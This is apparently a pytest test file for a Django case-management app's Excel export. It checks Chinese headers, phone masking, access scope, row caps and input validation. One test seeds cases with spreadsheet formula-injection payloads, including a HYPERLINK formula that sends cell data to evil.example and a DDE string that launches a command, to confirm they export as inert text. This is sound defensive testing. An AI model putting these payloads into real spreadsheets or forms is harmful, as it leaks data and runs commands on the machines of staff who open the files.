"""Excel export: the list's filter and scope, Chinese headers, masked phones, a row cap."""

import io
import zipfile

import pytest
from django.urls import reverse

from civicgrid.cases import export
from civicgrid.cases.tests.helpers import new_case

pytestmark = pytest.mark.django_db


def sheet_text(response) -> str:
    """The shared strings and cells of the first sheet: enough to check what a user reads."""
    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = book.namelist()
    parts = [book.read("xl/worksheets/sheet1.xml").decode()]
    if "xl/sharedStrings.xml" in names:
        parts.append(book.read("xl/sharedStrings.xml").decode())
    return "\n".join(parts)


def test_it_exports_the_filtered_list_with_chinese_headers_and_masked_phones(
    client, city, people, django_assert_max_num_queries
):
    mine = new_case(city, description="菜市场门口垃圾<b>成堆</b>")
    far = new_case(city, community=3)
    client.force_login(people.dispatcher)
    # Three of them write the audit entry: chain lock (PostgreSQL), chain head, insert.
    with django_assert_max_num_queries(8):
        response = client.get(reverse("cases:case-export"), {"inbox": "to_accept"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    assert ".xlsx" in response["Content-Disposition"]
    text = sheet_text(response)
    for header in ("查询码", "问题描述", "当前阶段时限", "反映人电话"):
        assert header in text
    assert mine.code in text and "待受理" in text and "&lt;b&gt;成堆" in text
    assert "138****5678" in text and "13812345678" not in text
    assert far.code not in text
    assert response["X-Rows"] == "1"


def test_it_exports_nothing_outside_the_scope(client, city, people):
    case = new_case(city)
    client.force_login(people.outsider)
    response = client.get(reverse("cases:case-export"), {"status": "open"})
    assert response.status_code == 200 and response["X-Rows"] == "0"
    assert case.code not in sheet_text(response)


def test_it_stops_at_the_cap_and_says_so(client, city, people, monkeypatch):
    for _ in range(3):
        new_case(city)
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    client.force_login(people.dispatcher)
    response = client.get(reverse("cases:case-export"), {"status": "open"})
    assert response["X-Rows"] == "2" and response["X-Capped"] == "1"
    assert "仅导出了前 2 件" in sheet_text(response)


def test_it_sends_bad_filters_back_to_the_list_with_a_chinese_message(client, city, people):
    client.force_login(people.dispatcher)
    response = client.get(reverse("cases:case-export"), {"reported_from": "昨天"}, follow=True)
    assert "请输入有效的日期" in response.content.decode()


def test_text_that_looks_like_a_formula_stays_text(client, city, people):
    """Formula injection: a resident's "=HYPERLINK(…)" must not become a live cell for staff."""
    texts = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看详情")',
        "+1+2 路灯不亮",
        "-3+4 井盖缺失",
        "@SUM(1,2) 垃圾满了",
    ]
    for text in texts:
        new_case(city, description=text, address="=1+1", reporter_name="=cmd|' /C calc'!A0")
    client.force_login(people.dispatcher)
    response = client.get(reverse("cases:case-export"), {"status": "open"})
    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet  # no formula, no live link
    cells = sheet_text_values(sheet)
    for text in texts:
        assert text in cells
    assert "=1+1" in cells and "=cmd|' /C calc'!A0" in cells


def sheet_text_values(sheet_xml: str) -> set[str]:
    """The text of every string cell of a sheet written with inline strings."""
    from xml.etree import ElementTree

    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    root = ElementTree.fromstring(sheet_xml)
    return {t.text or "" for t in root.iterfind(".//m:c[@t='inlineStr']/m:is/m:t", ns)}
